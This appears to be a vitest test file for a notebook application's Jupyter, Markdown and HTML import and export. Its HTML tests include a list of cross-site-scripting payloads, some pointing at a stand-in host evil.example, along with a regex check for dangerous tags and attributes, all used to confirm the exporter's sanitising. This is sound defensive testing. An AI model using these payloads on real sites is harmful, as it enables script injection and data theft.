/** Notebooks out and in again: Jupyter, Markdown, HTML; and hostile files. */
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { evaluateNotebook } from '../../server/api/schemas/notebook-evaluate.ts';
import { readNotebook } from '../../server/api/schemas/notebook-file.ts';
import { importNotebook } from '../../server/api/schemas/notebook-import.ts';
import { toIpynb } from '../../server/api/schemas/notebook-ipynb.ts';
import { toMarkdown } from '../../server/api/schemas/notebook-markdown.ts';
import type { Cell } from '../../server/api/schemas/notebook-cells.ts';
import { toHtml } from '../../server/notebooks/html.ts';
import { notebookArbitrary } from './arbitrary.ts';

const evaluated = (cells: Cell[]) => evaluateNotebook({ cells }, new Map());
const html = (cells: Cell[]) => toHtml({ title: 'T', cells }, evaluated(cells));
const md = (source: string): Cell => ({ id: 'm', kind: 'markdown', source });

const table: Cell = {
  id: 'q',
  kind: 'query',
  name: 'runs',
  source: 'is:done',
  pinned: {
    at: '2026-11-23T12:00:00Z',
    value: {
      kind: 'table',
      table: {
        columns: [
          { key: 'protocol', label: 'Protocol', type: 'text', format: 'plain' },
          { key: 'online_ms', label: 'Online', type: 'number', format: 'duration' },
        ],
        rows: [
          { cells: ['<b>fast</b> | x', 1234], runs: ['r1'], class: 'measured' },
          { cells: ['aby3', null], runs: ['r2'], class: 'predicted' },
        ],
        total: 2,
      },
    },
  },
};

describe('Jupyter', () => {
  test('an export that is imported is the same notebook', () => {
    fc.assert(
      fc.property(notebookArbitrary, (notebook) => {
        const file = toIpynb(notebook, evaluated([...notebook.cells]).results);
        const back = importNotebook('x.ipynb', file);
        expect(readNotebook(back.text)).toEqual(notebook);
        expect(back.remarks).toEqual([]);
      }),
      { numRuns: 200 },
    );
  });

  test('results are outputs that others can read', () => {
    const file = JSON.parse(
      toIpynb({ title: 'T', cells: [table] }, evaluated([table]).results),
    ) as {
      cells: { outputs: { data: { 'text/plain': string[] } }[] }[];
    };
    expect(file.cells[0]?.outputs[0]?.data['text/plain'].join('')).toContain('aby3,,predicted,r2');
  });

  test('a text that was edited elsewhere is taken, and what was pinned to the old one is not', () => {
    const file = JSON.parse(toIpynb({ title: 'T', cells: [table] }, new Map())) as {
      cells: { source: string[] }[];
    };
    const [cell] = file.cells;
    if (cell !== undefined) cell.source = ['is:starred'];
    const { cells } = readNotebook(importNotebook('x.ipynb', JSON.stringify(file)).text);
    expect(cells).toEqual([{ id: 'q', kind: 'query', name: 'runs', source: 'is:starred' }]);
  });

  const foreign = (...cells: unknown[]): string =>
    JSON.stringify({ nbformat: 4, metadata: {}, cells });

  test('cells of another kernel become texts that say so, with their outputs', () => {
    const { text, remarks } = importNotebook(
      'study.ipynb',
      foreign(
        { cell_type: 'markdown', source: ['# Study\n', 'text'], metadata: {} },
        {
          cell_type: 'code',
          source: 'print("```")',
          metadata: {},
          outputs: [
            { output_type: 'stream', text: ['\u001b[31m42\u001b[0m\n'] },
            { data: { 'image/png': 'AAAA' } },
          ],
        },
      ),
    );
    const { cells, title } = readNotebook(text);
    expect(title).toBe('study');
    expect(cells.map(({ kind }) => kind)).toEqual(['markdown', 'markdown']);
    const [, code] = cells;
    expect(code?.kind === 'markdown' && code.source).toContain('cannot run here');
    expect(code?.kind === 'markdown' && code.source).toContain('````\nprint("```")\n````');
    expect(code?.kind === 'markdown' && code.source).toContain('```\n42\n');
    expect(remarks).toEqual([
      '1 cells of another kernel became texts: they cannot run here.',
      '1 outputs without a plain text (pictures, HTML) were left out.',
    ]);
  });

  test('huge outputs are cut, too many cells left out, a bad cell of ours becomes text', () => {
    const output = {
      cell_type: 'code',
      source: '',
      metadata: { parley: { kind: 'run', evil: 1 } },
      outputs: [{ text: 'x'.repeat(100_000) }],
    };
    const { text, remarks } = importNotebook(
      'x.ipynb',
      foreign(...Array.from({ length: 250 }, () => output)),
    );
    expect(text.length).toBeLessThan(1_500_000);
    expect(readNotebook(text).cells).toHaveLength(200);
    expect(remarks[0]).toBe('50 cells past the first 200 were left out.');
  });

  test.each(['', '[]', '{"nbformat":4}', '{"cells":[1]}', '['.repeat(100_000)])(
    '%# is refused in a sentence',
    (text) => {
      expect(() => importNotebook('x.ipynb', text)).toThrow(/no Jupyter notebook/);
    },
  );
});

describe('Markdown', () => {
  test('has numbers in their places and tables of results', () => {
    const cells = [md('Fastest: {{min(runs.online_ms)}}; bad: {{min(nope.x)}}.'), table];
    const text = toMarkdown({ title: 'T', cells }, evaluated(cells));
    expect(text).toMatch(/Fastest: 1\.23.s; bad: \(there is no cell named "nope"\.\)/);
    expect(text).toContain('| \\<b\\>fast\\</b\\> \\| x | 1.23');
    expect(text).toContain('| aby3 |  | predicted |');
  });

  test('plain Markdown is cut at its headings, not inside of fences', () => {
    const { cells, title } = readNotebook(
      importNotebook('a.md', '# One\n\ntext\n```\n# no heading\n```\n## Two\nmore').text,
    );
    expect(title).toBe('One');
    expect(cells.map((cell) => cell.kind === 'markdown' && cell.source)).toEqual([
      '# One\n\ntext\n```\n# no heading\n```',
      '## Two\nmore',
    ]);
  });
});

describe('HTML without scripts', () => {
  test('has texts, formulas, tables', async () => {
    const page = await html([md('# Head\n\nIt is $x^2$ and **{{count(runs)}}** runs.'), table]);
    expect(page).toContain('<h1>Head</h1>');
    expect(page).toContain('<math');
    expect(page).toContain('<strong>2</strong>');
    expect(page).toContain('<td>&lt;b&gt;fast&lt;/b&gt; | x</td>');
    expect(page).toContain("default-src 'none'");
  });

  const attacks = [
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '<svg onload=alert(1)><script>alert(1)</script></svg>',
    '<svg><style>@import "https://evil.example/"</style></svg>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<a href="javascript:alert(1)">x</a>',
    '[x](javascript:alert(1))',
    '[x](JaVaScRiPt:alert(1))',
    '[x](&#106;avascript:alert(1))',
    '[x](data:text/html;base64,PHNjcmlwdD4=)',
    '[x](vbscript:x)',
    '![x](https://evil.example/track.png)',
    '![x](javascript:alert(1))',
    '[x]: javascript:alert(1)\n\n[x]',
    '<javascript:alert(1)>',
    '$\\href{javascript:alert(1)}{x}$',
    '$\\includegraphics{https://evil.example/x.png}$',
    '$\\htmlStyle{color:red;background:url(https://evil.example)}{x}$',
    '$\\unicode{<img src=x onerror=alert(1)>}$',
    '$$\\def\\a{\\a\\a}\\a$$',
    '```html\n<script>alert(1)</script>\n```',
    '```"><img src=x onerror=alert(1)>\nx\n```',
    '|a|\n|-|\n|<img src=x onerror=alert(1)>|',
    '<form action="https://evil.example"><input name=x></form>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '</body></html><script>alert(1)</script>',
    '[^1]\n\n[^1]: <script>alert(1)</script>',
  ];

  /** Tags of the page's body, with their attributes. */
  const tagsOf = (page: string): readonly string[] =>
    [...page.slice(page.indexOf('<body>') + 6).matchAll(/<[a-z][^>]*>/gi)].map(([tag]) => tag);

  const expectHarmless = (page: string): void => {
    for (const tag of tagsOf(page)) {
      expect(tag).not.toMatch(
        /^<(script|img|svg|iframe|style|form|base|meta|object|embed|link|video|audio)\b/i,
      );
      expect(tag).not.toMatch(/\s(on\w+|style|src|srcdoc|action|formaction|xlink:href)\s*=/i);
      const href = /\shref="([^"]*)"/i.exec(tag)?.[1];
      if (href !== undefined) expect(href).toMatch(/^(https?:|mailto:|#)/);
    }
  };

  test.each(attacks)('%s is harmless', async (attack) => {
    expectHarmless(await html([md(attack)]));
    expectHarmless(
      await html([md(`text ${attack} text`), { id: 'a', kind: 'assertion', source: attack }]),
    );
    const ipynb = JSON.stringify({
      nbformat: 4,
      metadata: { title: attack },
      cells: [
        { cell_type: 'markdown', source: attack, metadata: {} },
        {
          cell_type: 'code',
          source: attack,
          metadata: {},
          outputs: [{ text: attack, data: { 'text/html': attack, 'image/svg+xml': attack } }],
        },
      ],
    });
    const notebook = readNotebook(importNotebook('x.ipynb', ipynb).text);
    expectHarmless(await toHtml(notebook, evaluated(notebook.cells)));
  });

  test('values of tables are text, whatever they hold', async () => {
    for (const attack of attacks) {
      const { pinned } = table;
      if (pinned?.value.kind !== 'table') throw new Error('no table');
      const rows = [
        { cells: [attack.slice(0, 2000), 1], runs: ['r1'], class: 'measured' as const },
      ];
      const cell: Cell = {
        ...table,
        pinned: { ...pinned, value: { kind: 'table', table: { ...pinned.value.table, rows } } },
      };
      expectHarmless(await html([cell, md('{{first(runs.protocol)}}')]));
    }
  });

  test('deep nesting ends', async () => {
    const page = await html([
      md('> '.repeat(2000)),
      md('['.repeat(5000)),
      md(`$${'{'.repeat(3000)}$`),
      md('- '.repeat(2000)),
    ]);
    expectHarmless(page);
  });
});
